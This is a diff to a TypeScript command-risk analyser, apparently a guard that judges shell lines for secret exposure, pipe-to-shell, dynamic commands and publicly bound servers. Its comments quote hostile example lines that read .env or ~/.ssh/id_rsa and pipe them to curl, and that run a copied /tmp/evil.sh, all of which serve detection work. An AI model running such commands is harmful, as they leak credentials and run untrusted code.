@@ -42,7 +42,7 @@ import { consoleCode } from './framework-consoles.js';
 import { vmShellCommand } from './vm-shells.js';
 import { phpServer } from './php-servers.js';
 import { feedsStdin, outerPositionals, projectScript, substitutedFile, wholeComputed } from './computed-scripts.js';
-import { FILE_READERS, foreignText, itemsChooseAction, itemsInCode } from './xargs-items.js';
+import { FILE_READERS, foreignText, itemsChooseAction, itemsInCode, throughFilters } from './xargs-items.js';
 import { CMAKE_READ_CALLS } from './cmake-text.js';
 import { buildFilesRead, ownBuildPlace } from './build-runners.js';
 import { commandsInText } from './text-commands.js';
@@ -153,6 +153,15 @@ export function judgeArgv(st: State, argv0: string[], ctx: Context, writes: stri
     && c.redirects.every((r) => !/>/.test(r.op) || /^(\/dev\/null|&?\d)$/.test(r.target.value))));
   const editorOk: EditorCodeOk = (what, p) => linePlain && !argv0.some((a) => /^\s*:*\s*(?:cd|chd(?:ir)?|lcd?|lch(?:dir)?|tcd?|tch(?:dir)?)!?\s/.test(a))
     && (what === 'module' || (/^[\w./-]+$/.test(p) && !p.includes('..') && resolvePath(p, ctx).startsWith(`${ctx.projectRoot}/`) && !isSecretPath(st, resolvePath(p, ctx), ctx)));
+  // A command line nested in this command — sh -c TEXT, a git `!` alias, find -exec, npx -c, submodule foreach — prints
+  // to this command's output: a secret it shows is what this command's output carries (sh -c 'cat .env' | curl -d @- …,
+  // git -c alias.x='!cat' x ~/.ssh/id_rsa | curl …), as cat's would.
+  const subPrinting = (text: string, cwd: string, e: Context['env']): void => {
+    const before = st.out.length;
+    st.sub(text, cwd, e);
+    const shown = rec.secretOut === undefined ? st.out.slice(before).find((j) => SECRET(j, 'reads')) : undefined;
+    if (shown) rec.secretOut = firstSecret(st, shown.facts.reads, { ...ctx, cwd }) ?? rec.secretOut;
+  };
   const riskiest = (ws: readonly string[]) => ws.reduce<string | undefined>((b, w) => (b === undefined || risk(w) > risk(b) ? w : b), undefined);
   // A file of the project's, as it was before the line ran: not a secret, not one the line wrote with text nobody read,
   // nor a copy or link of a file from elsewhere the line made (cp /tmp/evil.sh run.sh && bash <(cat run.sh)): computed-scripts.ts.
@@ -494,11 +503,13 @@ export function judgeArgv(st: State, argv0: string[], ctx: Context, writes: stri
       // text is code nobody read. (A list of the project's own is the project's, as its scripts are.)
       if (items.length === 0 && repl !== undefined && xargsInput(fedInfos(fed, listing)).includes('$XARGS_INPUT')) {
         // (…a reader's file — jq -r '.x[]' /tmp/dl.json, head ~/Downloads/list — as cat's.)
-        const lists = [listFile, ...fed.flatMap((k) => (FILE_READERS.test(info[k]?.name ?? '') ? info[k]!.argv.slice(1).filter((x) => !x.startsWith('-')) : []))].filter((x): x is string => x !== undefined && !/^<\(/.test(x));
+        // (…through filters too: git log --format=%s | head -1 | xargs -I{} sh -c 'echo "{}"'.)
+        const feeders = throughFilters(fed, info, (k) => flat[k]?.stdinFrom ?? []);
+        const lists = [listFile, ...feeders.flatMap((k) => (FILE_READERS.test(info[k]?.name ?? '') ? info[k]!.argv.slice(1).filter((x) => !x.startsWith('-')) : []))].filter((x): x is string => x !== undefined && !/^<\(/.test(x));
         const inCode = itemsInCode(u.argv, repl);
         const elsewhere = lists.find((x) => !resolvePath(x, ctx).startsWith(`${ctx.projectRoot}/`));
         // (…and text others wrote that git prints — commit messages, authors, tag and branch names: what a fetch or a pull brought.)
-        const foreign = fed.map((k) => foreignText(info[k]?.argv ?? [])).find((x) => x !== undefined);
+        const foreign = feeders.map((k) => foreignText(info[k]?.argv ?? [])).find((x) => x !== undefined);
         if (inCode !== undefined && (elsewhere ?? foreign) !== undefined) tag('dynamic-command', `${name} puts ${elsewhere !== undefined ? `the lines of ${elsewhere}` : foreign}, which Rampart has not read, ${inCode}`);
       }
       // With -I each item runs its own command: the one judged is the riskiest (`..`, a home or
@@ -691,7 +702,7 @@ export function judgeArgv(st: State, argv0: string[], ctx: Context, writes: stri
         if (/^\s*("?\$[@*1-9]"?|\{\}|%s)\s*$/.test(cmd)) tag('pipe-to-shell', `${name} -c runs text supplied at run time`);
         else {
           const sourcedBefore = st.sourcedSecret;
-          st.sub(name === 'cmd' ? withoutCmdSwitches(cmd) : cmd, ctx.cwd, env);
+          subPrinting(name === 'cmd' ? withoutCmdSwitches(cmd) : cmd, ctx.cwd, env);
           // A command string that sources a secret file and dumps or echoes it prints the secret.
           if (st.sourcedSecret !== undefined && sourcedBefore === undefined && /\b(env|printenv|export\s+-p|declare\s+-[px]|set)\s*($|[;&|)])|\becho\b|\bprintf\b|\bcat\b/.test(cmd)) rec.secretOut = st.sourcedSecret;
         }
@@ -1202,7 +1213,9 @@ export function judgeArgv(st: State, argv0: string[], ctx: Context, writes: stri
         || (/^(--host|--bind|--bind-address|--address|--addr|--listen|--ip|-b|-a|-H|-i|--interfaces)$/.test(args[k - 1] ?? '') && anyAddr.test(a))
         || /^--(host|bind|bind-address|address|addr|listen|ip|interfaces)=(0\.0\.0\.0|0|\[?::\]?|(?!127\.)\d+\.\d+\.\d+\.\d+)(:\d+)?$/.test(a))
         || /^--(inspect|inspect-brk|inspect-wait)=(0\.0\.0\.0|\[?::\]?)(:\d+)?$/.test(a))
-        || (php?.address !== undefined && !servesPublished && /^(0\.0\.0\.0|0|\[::\]|::|(?!127\.)\d+\.\d+\.\d+\.\d+)(:\d+)?$/.test(php.address));
+        || (php?.address !== undefined && !servesPublished && /^(0\.0\.0\.0|0|\[::\]|::|(?!127\.)\d+\.\d+\.\d+\.\d+)(:\d+)?$/.test(php.address))
+        // (…or on an address only known when the line runs — "$HOST:8000", "$(hostname -I)":8000 —, which may be any of them.)
+        || (php?.address !== undefined && !servesPublished && /[$`]/.test(php.address));
       const servesByDefault = (name === 'httpd' && !args.some((a, k) => args[k - 1] === '-p' && /^(127\.|localhost)/.test(a)))
         || (/^ruby/.test(name) && args.includes('-run') && args.some((a) => /httpd/.test(a)) && !servesPublished && !args.some((a) => /BindAddress=(127\.|localhost)|--bind-address=(127\.|localhost)/.test(a)))
         || ((name === 'twistd' || (args[0] === '-m' && args[1] === 'twisted')) && args.includes('web'))
@@ -1528,7 +1541,7 @@ export function judgeArgv(st: State, argv0: string[], ctx: Context, writes: stri
     const inside = elsewhere(name, args, given);
     const outer = st.inside;
     if (inside) st.inside = inside;
-    for (const r of facts.runs) st.sub(stdinText !== undefined && /^(npm|npx)$/.test(name) ? `{ ${r}\n} <<< ${quote(stdinText.replace(/\0/g, '\n'))}` : r, ctx.cwd, env);
+    for (const r of facts.runs) subPrinting(stdinText !== undefined && /^(npm|npx)$/.test(name) ? `{ ${r}\n} <<< ${quote(stdinText.replace(/\0/g, '\n'))}` : r, ctx.cwd, env);
     if (loads !== undefined) st.sourcedSecret = sourcedBefore;
     if (/^(npm|pnpm|bun)$/.test(name)) lifecycleScripts(st, args, ctx.cwd);
     configSetSettings(st, name, args, ctx.cwd);
